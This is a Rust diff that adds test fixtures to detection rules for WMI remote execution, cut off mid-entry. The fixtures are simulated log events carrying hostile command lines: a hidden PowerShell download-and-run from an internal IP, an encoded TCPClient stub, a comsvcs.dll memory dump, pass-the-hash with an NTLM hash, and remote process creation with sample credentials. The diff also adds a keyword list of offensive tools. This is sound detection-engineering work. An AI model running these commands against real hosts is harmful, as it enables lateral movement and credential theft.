@@ -6,7 +6,10 @@ use std::sync::LazyLock;
 use regex::Regex;
 
 use super::lists::LOLBAS;
-use super::{any, remote, Basis, Cond, Custom, Hit, Level, Match, Positive, Rule, Test, Yield};
+use super::{
+    any, remote, Basis, Built, Cond, Contrast, Custom, FromPublic, Hit, Level, Match, Origin,
+    Positive, Rule, Test, Yield,
+};
 use super::{PSOP, SECURITY, SYSMON, WMI};
 use crate::detect::ctx::Ctx;
 use crate::detect::finding::{Artefact, Outcome, Side, Technique};
@@ -75,6 +78,43 @@ const WMI_REMOTEEXEC_SOURCE_CREATE: Rule = Rule {
             "CommandLine" = "wmic process list /FORMAT:\"https://example.org/x.xsl\""
         ),
     ],
+    public: &[
+        FromPublic {
+            origin: Origin::Sigma("7773b877"),
+            built: Built::Regression { path: "regression_data/rules/windows/process_creation/proc_creation_win_wmic_remote_execution/7773b877-5abb-4a3e-b9c9-fd0369b59b00.json", commit: "d8fbaea424bdd0bbb684ff471902b31f00b89c1a" },
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" /user:DOMAIN\\Administrator /password:P@ssw0rd1 /node:17.12.0.1 process call create notepad.exe", "CurrentDirectory" = "C:\\WINDOWS\\system32\\", "User" = "swachchhanda\\xodih", "LogonId" = "0x7e2aa", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "ParentCommandLine" = "\"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -ep bypass", "ParentUser" = "swachchhanda\\xodih"),
+            targets: &["17.12.0.1"],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "\"C:\\WINDOWS\\System32\\Wbem\\WMIC.exe\" /node:localhost process call create notepad.exe", "User" = "swachchhanda\\xodih", "ParentImage" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Sigma("526be59f"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:srv03 process call create notepad.exe", "CurrentDirectory" = "C:\\Users\\xodih\\AppData\\Local\\Temp\\", "User" = "swachchhanda\\xodih", "LogonId" = "0x7e2aa", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"cmd.exe\" /c wmic process call create notepad.exe", "ParentUser" = "swachchhanda\\xodih"),
+            targets: &["srv03"],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic  process list brief", "User" = "swachchhanda\\xodih", "ParentImage" = "C:\\Windows\\System32\\cmd.exe"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Sigma("3c89a1e8"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:srv03 process call create \"rundll32.exe \\\"C:\\AtomicRedTeam\\atomics\\..\\ExternalPayloads\\calc.dll\\\" StartW\"", "CurrentDirectory" = "C:\\Users\\xodih\\AppData\\Local\\Temp\\", "User" = "swachchhanda\\xodih", "LogonId" = "0x7e2aa", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"cmd.exe\" /c wmic /node:127.0.0.1 process call create \"rundll32.exe \\\"C:\\AtomicRedTeam\\atomics\\..\\ExternalPayloads\\calc.dll\\\" StartW\"", "ParentUser" = "swachchhanda\\xodih"),
+            targets: &["srv03"],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:srv03.corp.example process call create \"notepad.exe\"", "User" = "CORP\\alice", "ParentImage" = "C:\\Windows\\System32\\cmd.exe"), Contrast::Broader("ours reports any remote process create, whatever its payload"))),
+        },
+        FromPublic {
+            origin: Origin::Escu("C1"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:SRV03 process call create \"cmd.exe /c ipconfig > C:\\Windows\\Temp\\out.txt\"", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"),
+            targets: &["SRV03"],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic process call create \"notepad.exe\"", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Escu("C3"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:10.0.1.33 /user:CORP\\alice process call create \"rundll32.exe C:\\Users\\Public\\a.dll,Start\"", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"),
+            targets: &["10.0.1.33"],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "OriginalFileName" = "wmic.exe", "CommandLine" = "wmic /node:10.0.1.33 process get name,processid", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"), Contrast::Filtered)),
+        },
+    ],
 };
 
 fn m_wmic_create(c: &Ctx<'_>) -> Option<Hit> {
@@ -117,6 +157,34 @@ const WMI_REMOTEEXEC_SOURCE_QUERY: Rule = Rule {
             "CommandLine" = "wmic /node:srv1 process call  create calc"
         ),
     ],
+    public: &[FromPublic {
+        origin: Origin::Escu("C2"),
+        built: Built::Definition,
+        event: ex!(
+            SYSMON,
+            "1",
+            "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe",
+            "OriginalFileName" = "wmic.exe",
+            "CommandLine" = "wmic /node:\"SRV03\" service where (caption like \"%Spooler%\")",
+            "ParentImage" = "C:\\Windows\\System32\\cmd.exe",
+            "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"",
+            "User" = "CORP\\alice"
+        ),
+        targets: &["SRV03"],
+        contrast: Some((
+            ex!(
+                SYSMON,
+                "1",
+                "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe",
+                "OriginalFileName" = "wmic.exe",
+                "CommandLine" = "wmic service where (caption like \"%Spooler%\")",
+                "ParentImage" = "C:\\Windows\\System32\\cmd.exe",
+                "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"",
+                "User" = "CORP\\alice"
+            ),
+            Contrast::Filtered,
+        )),
+    }],
 };
 
 fn m_wmic_query(c: &Ctx<'_>) -> Option<Hit> {
@@ -151,6 +219,22 @@ const WMI_REMOTEEXEC_PS_CREATE: Rule = Rule {
         "4104",
         "ScriptBlockText" = "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc"
     )],
+    public: &[
+        FromPublic {
+            origin: Origin::Escu("C4"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -c \"Invoke-WmiMethod -CN SRV03 -Class Win32_Process -Name create -ArgumentList 'cmd.exe /c whoami'\"", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"),
+            targets: &["SRV03"],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -c \"Invoke-WmiMethod -Class Win32_Process -Name create -ArgumentList 'calc.exe'\"", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\"", "User" = "CORP\\alice"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Escu("C5"),
+            built: Built::Definition,
+            event: ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-WmiMethod -ComputerName SRV03 -Class Win32_Process -Name create -ArgumentList 'cmd.exe /c whoami'", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockId" = "5f0c6a7e-2d1b-4c5e-9a3f-7b8d9e0a1c2b", "UserID" = "S-1-5-21-3623811015-3361044348-30300820-1104"),
+            targets: &["SRV03"],
+            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-WmiMethod -Class Win32_Process -Name create -ArgumentList 'calc.exe'", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockId" = "5f0c6a7e-2d1b-4c5e-9a3f-7b8d9e0a1c2b", "UserID" = "S-1-5-21-3623811015-3361044348-30300820-1104"), Contrast::Filtered)),
+        },
+    ],
 };
 
 fn m_ps_wmi_create(c: &Ctx<'_>) -> Option<Hit> {
@@ -191,6 +275,15 @@ const WMI_REMOTEEXEC_PS_CIM: Rule = Rule {
         "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "CommandLine" = "powershell New-CimSession -ComputerName localhost"
     )],
+    public: &[
+        FromPublic {
+            origin: Origin::Escu("C11"),
+            built: Built::Definition,
+            event: ex!(PSOP, "4104", "ScriptBlockText" = "$s = New-CimSession -ComputerName SRV03 -Credential $cred; Invoke-CimMethod -CimSession $s -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='calc.exe'}", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockId" = "5f0c6a7e-2d1b-4c5e-9a3f-7b8d9e0a1c2b", "UserID" = "S-1-5-21-3623811015-3361044348-30300820-1104"),
+            targets: &["SRV03"],
+            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Get-CimSession | Remove-CimSession", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockId" = "5f0c6a7e-2d1b-4c5e-9a3f-7b8d9e0a1c2b", "UserID" = "S-1-5-21-3623811015-3361044348-30300820-1104"), Contrast::Filtered)),
+        },
+    ],
 };
 
 fn m_ps_wmi_cim(c: &Ctx<'_>) -> Option<Hit> {
@@ -226,6 +319,15 @@ const WMI_REMOTEEXEC_PS_QUERY: Rule = Rule {
         // Mordor's Empire agent on WORKSTATION5: a local query (4103).
         ex!(PSOP, "4103", "Payload" = "CommandInvocation(Get-WmiObject): \"Get-WmiObject\"\r\nParameterBinding(Get-WmiObject): name=\"Class\"; value=\"WIn32_OPeraTiNgSYstEM\"\r\n"),
     ],
+    public: &[
+        FromPublic {
+            origin: Origin::Escu("C12"),
+            built: Built::Definition,
+            event: ex!(PSOP, "4104", "ScriptBlockText" = "Get-CimInstance -ClassName Win32_OperatingSystem -ComputerName SRV03", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockId" = "5f0c6a7e-2d1b-4c5e-9a3f-7b8d9e0a1c2b", "UserID" = "S-1-5-21-3623811015-3361044348-30300820-1104"),
+            targets: &["SRV03"],
+            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Get-CimInstance -ClassName Win32_OperatingSystem", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockId" = "5f0c6a7e-2d1b-4c5e-9a3f-7b8d9e0a1c2b", "UserID" = "S-1-5-21-3623811015-3361044348-30300820-1104"), Contrast::Filtered)),
+        },
+    ],
 };
 
 fn m_ps_wmi_query(c: &Ctx<'_>) -> Option<Hit> {
@@ -248,6 +350,7 @@ const WMI_INVOKE_WMIEXEC: Rule = Rule {
     when: Match::When(Cond {
         kinds: &[Kind::ScriptBlock, Kind::ProcessCreate],
         text_any: &["invoke-wmiexec"],
+        yields: Yield::Tool,
         ..Cond::ANY
     }),
     positives: &[pos!(ex!(
@@ -260,6 +363,15 @@ const WMI_INVOKE_WMIEXEC: Rule = Rule {
         "4104",
         "ScriptBlockText" = "Invoke-WmiMethod -Class Win32_Process"
     )],
+    public: &[
+        FromPublic {
+            origin: Origin::Escu("C10"),
+            built: Built::Definition,
+            event: ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-WMIExec -Target 10.0.1.33 -Domain corp.example -Username alice -Hash F6F38B793DB6A94BA04A52F1D3EE92F0 -Command \"cmd.exe /c whoami\" -Verbose", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockId" = "5f0c6a7e-2d1b-4c5e-9a3f-7b8d9e0a1c2b", "UserID" = "S-1-5-21-3623811015-3361044348-30300820-1104"),
+            targets: &["10.0.1.33"],
+            contrast: Some((ex!(PSOP, "4104", "ScriptBlockText" = "Invoke-SMBExec -Target 10.0.1.33 -Domain corp.example -Username alice -Hash F6F38B793DB6A94BA04A52F1D3EE92F0 -Command \"cmd.exe /c whoami\" -Verbose", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockId" = "5f0c6a7e-2d1b-4c5e-9a3f-7b8d9e0a1c2b", "UserID" = "S-1-5-21-3623811015-3361044348-30300820-1104"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_OFFENSIVE_TOOL: Rule = Rule {
@@ -279,15 +391,36 @@ const WMI_OFFENSIVE_TOOL: Rule = Rule {
         kinds: &[Kind::ScriptBlock, Kind::ProcessCreate],
         text_any: &["wmimplant", "sharpwmi", "sharpmove", "crackmapexec", "netexec", "nxc.exe", "wmiexec.py", "invoke-wmilm"],
         text_none: &["invoke-wmiexec"],
+        yields: Yield::Tool,
         ..Cond::ANY
     }),
     positives: &[
-        // FIXME(issue11): the event names its target (`computername=srv03`) and the
-        // tool, but m_offensive_tool returns an empty Hit. Expected targets ["srv03"]
-        // and threats [("sharpwmi.exe", "process_name")].
-        pos!(ex!(SYSMON, "1", "Image" = "C:\\Users\\a\\SharpWMI.exe", "CommandLine" = "SharpWMI.exe action=exec computername=srv03 command=calc")),
+        pos!(ex!(SYSMON, "1", "Image" = "C:\\Users\\a\\SharpWMI.exe", "CommandLine" = "SharpWMI.exe action=exec computername=srv03 command=calc"), targets: ["srv03"], threats: [("sharpwmi.exe", "process_name")]),
     ],
     negatives: &[ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIC.exe", "CommandLine" = "wmic os get caption")],
+    public: &[
+        FromPublic {
+            origin: Origin::Sigma("7638e5fe"),
+            built: Built::Regression { path: "regression_data/rules/windows/process_creation/proc_creation_win_hktl_netexec/7638e5fe-600c-4289-a968-f49dd537ec7d.json", commit: "3b20451a93aa7c534853489afe2318bed325ead6" },
+            event: ex!(SYSMON, "1", "Image" = "C:\\Users\\xodih\\Downloads\\nxc-windows-latest\\nxc.exe", "OriginalFileName" = "-", "CommandLine" = "nxc.exe  smb 192.168.1.1 -u admin -p password123", "CurrentDirectory" = "C:\\Users\\xodih\\Downloads\\nxc-windows-latest\\", "User" = "swachchhanda\\xodih", "LogonId" = "0x1f153", "IntegrityLevel" = "Medium", "ParentImage" = "C:\\Users\\xodih\\Downloads\\nxc-windows-latest\\nxc.exe", "ParentCommandLine" = "nxc.exe  smb 192.168.1.1 -u admin -p password123", "ParentUser" = "swachchhanda\\xodih"),
+            targets: &["192.168.1.1"],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Users\\xodih\\Downloads\\nxc-windows-latest\\nxc.exe", "OriginalFileName" = "-", "CommandLine" = "nxc.exe --version", "User" = "swachchhanda\\xodih", "ParentImage" = "C:\\Windows\\System32\\cmd.exe"), Contrast::Broader("the tool on a command line is the finding, whatever its verb"))),
+        },
+        FromPublic {
+            origin: Origin::Sigma("055fb54c"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Users\\alice\\Downloads\\SharpMove.exe", "OriginalFileName" = "SharpMove.exe", "CommandLine" = "SharpMove.exe action=create computername=srv03.corp.example command=\"C:\\Windows\\Temp\\payload.exe\" amsi=true", "User" = "CORP\\alice", "ParentImage" = "C:\\Windows\\System32\\cmd.exe"),
+            targets: &["srv03.corp.example"],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Users\\Public\\svc.exe", "OriginalFileName" = "svc.exe", "CommandLine" = "svc.exe action=scm", "User" = "CORP\\alice", "ParentImage" = "C:\\Windows\\System32\\cmd.exe"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Sigma("8028c2c3"),
+            built: Built::Definition,
+            event: ex!(PSOP, "4104", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockText" = "Invoke-WMImplant -Command command_exec -RemoteCommand 'whoami' -Target srv03.corp.example -RemoteUser CORP\\admin -RemotePass P@ss", "ScriptBlockId" = "4c5d6e7f-8a9b-40c1-9d2e-3f4a5b6c7d8e"),
+            targets: &["srv03.corp.example"],
+            contrast: Some((ex!(PSOP, "4104", "MessageNumber" = "1", "MessageTotal" = "1", "ScriptBlockText" = "$Command = 'command_exec'; Write-Output $Command", "ScriptBlockId" = "5d6e7f8a-9b0c-41d2-8e3f-4a5b6c7d8e9f"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_REMOTEEXEC_CHILD: Rule = Rule {
@@ -340,6 +473,43 @@ const WMI_REMOTEEXEC_CHILD: Rule = Rule {
             "User" = "CORP\\alice"
         ),
     ],
+    public: &[
+        FromPublic {
+            origin: Origin::Sigma("d21374ff"),
+            built: Built::Regression { path: "regression_data/rules/windows/process_creation/proc_creation_win_wmiprvse_spawning_process/d21374ff-f574-44a7-9998-4a8c8bf33d7d.json", commit: "e3fde8d654d2940ed88aa7d1b5f1f5f1d7fdde86" },
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\calc.exe", "CommandLine" = "calc", "CurrentDirectory" = "C:\\Windows\\system32\\", "User" = "MSEDGEWIN10\\IEUser", "LogonId" = "0x413182", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\wbem\\WMIADAP.EXE", "CommandLine" = "wmiadap.exe /F /T /R", "CurrentDirectory" = "C:\\Windows\\system32\\", "User" = "NT AUTHORITY\\NETWORK SERVICE", "LogonId" = "0x3e4", "IntegrityLevel" = "System", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Sigma("692f0bec"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.1.21/a.ps1')\"", "User" = "CORP\\alice", "LogonId" = "0x5a1b2c", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "powershell.exe -nop -c Get-Counter", "User" = "CORP\\alice", "LogonId" = "0x5a1b2c", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiApSrv.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\WmiApSrv.exe"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Sigma("058f4380"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "\"cmd.exe\" /c cmd.exe /Q /c hostname 1> \\\\127.0.0.1\\ADMIN$\\output.txt 2>&1", "CurrentDirectory" = "C:\\Users\\frack113\\AppData\\Local\\Temp\\", "User" = "SigmaCatchVm\\frack113", "LogonId" = "0x8dd1e", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "ParentUser" = "SigmaCatchVm\\frack113"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "\"cmd.exe\" /c cmd.exe /Q /c hostname", "User" = "SigmaCatchVm\\frack113", "ParentImage" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Escu("A8"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "powershell.exe -NoP -NonI -W Hidden -Command \"Get-Process | Out-File C:\\Users\\Public\\p.txt\"", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x5a3c1f"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -Noninteractive -ExecutionPolicy Bypass -File \"C:\\Windows\\CCM\\SystemTemp\\6b1f8c2e-3e8c-4b7a-9a1d-0d2f5e7c9a11.ps1\"", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Escu("C6"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /c ipconfig > C:\\Windows\\Temp\\out.txt", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x6d2b4e"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\Temp\\1D8E4F8A-7F0C-4C4F-9B9F-4F3B2E6D1A2C\\dismhost.exe", "OriginalFileName" = "DismHost.exe", "CommandLine" = "C:\\Windows\\TEMP\\1D8E4F8A-7F0C-4C4F-9B9F-4F3B2E6D1A2C\\dismhost.exe {5B1A2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D}", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "NT AUTHORITY\\SYSTEM", "LogonId" = "0x3e7"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_REMOTEEXEC_CHILD_LOLBAS: Rule = Rule {
@@ -374,6 +544,22 @@ const WMI_REMOTEEXEC_CHILD_LOLBAS: Rule = Rule {
         "Image" = "C:\\Windows\\System32\\cmd.exe",
         "User" = "CORP\\alice"
     )],
+    public: &[
+        FromPublic {
+            origin: Origin::Sigma("8a582fe2"),
+            built: Built::Regression { path: "regression_data/rules/windows/process_creation/proc_creation_win_wmiprvse_susp_child_processes/8a582fe2-0882-4b89-a82a-da6b2dc32937.json", commit: "2492606fd49eb5823bee3611c9d65ef47470d108" },
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\rundll32.exe", "CommandLine" = "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 4868 C:\\Windows\\System32\\notepad.bin full", "CurrentDirectory" = "C:\\Windows\\system32\\", "User" = "MSEDGEWIN10\\IEUser", "LogonId" = "0xe81e5", "IntegrityLevel" = "High", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\msiexec.exe", "OriginalFileName" = "msiexec.exe", "CommandLine" = "\"C:\\Windows\\System32\\msiexec.exe\" /i C:\\Windows\\Temp\\agent.msi /qn", "User" = "CORP\\alice", "LogonId" = "0x5a1b2c", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"), Contrast::Broader("Win32_Product Install over WMI is how an MSI is pushed to another host, for admins and attackers alike"))),
+        },
+        FromPublic {
+            origin: Origin::Escu("C7"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\rundll32.exe", "OriginalFileName" = "RUNDLL32.EXE", "CommandLine" = "rundll32.exe C:\\Users\\Public\\update.dll,Start", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x6d2b4e"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /c whoami", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "User" = "CORP\\alice", "LogonId" = "0x6d2b4e"), Contrast::Filtered)),
+        },
+    ],
 };
 
 const WMI_IMPACKET_WMIEXEC: Rule = Rule {
@@ -418,6 +604,36 @@ const WMI_IMPACKET_WMIEXEC: Rule = Rule {
         "Image" = "C:\\Windows\\System32\\cmd.exe",
         "CommandLine" = "cmd.exe /c dir \\\\fileserver\\share"
     )],
+    public: &[
+        FromPublic {
+            origin: Origin::Sigma("022eaba8"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\cmd.exe", "OriginalFileName" = "Cmd.Exe", "CommandLine" = "cmd.exe /Q /c powershell.exe -NoP -NoL -sta -NonI -W Hidden -Exec Bypass -Enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFMAbwBjAGsAZQB0AHMALgBUAEMAUABDAGwAaQBlAG4AdAA= 1> \\\\127.0.0.1\\ADMIN$\\__1678278543.2217 2>&1", "CurrentDirectory" = "C:\\", "User" = "CORP\\admin", "LogonId" = "0x8c1f2a", "ParentImage" = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "ParentCommandLine" = "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "1", "Image" = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "OriginalFileName" = "PowerShell.EXE", "CommandLine" = "powershell -noP -sta -w 1 -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFMAbwBjAGsAZQB0AHMALgBUAEMAUABDAGwAaQBlAG4AdAA=", "User" = "CORP\\admin", "LogonId" = "0x8c1f2a", "ParentImage" = "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine" = "\"C:\\Windows\\system32\\cmd.exe\""), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Sigma("8d5aca11"),
+            built: Built::Definition,
+            event: ex!(SYSMON, "11", "ProcessId" = "4", "Image" = "System", "TargetFilename" = "C:\\Windows\\__1678278543.2217", "User" = "NT AUTHORITY\\SYSTEM"),
+            targets: &[],
+            contrast: Some((ex!(SYSMON, "11", "ProcessId" = "4", "Image" = "System", "TargetFilename" = "C:\\Windows\\__output", "User" = "NT AUTHORITY\\SYSTEM"), Contrast::Filtered)),
+        },
+        FromPublic {
+            origin: Origin::Escu("C8"),
+            built: Built::Definition,
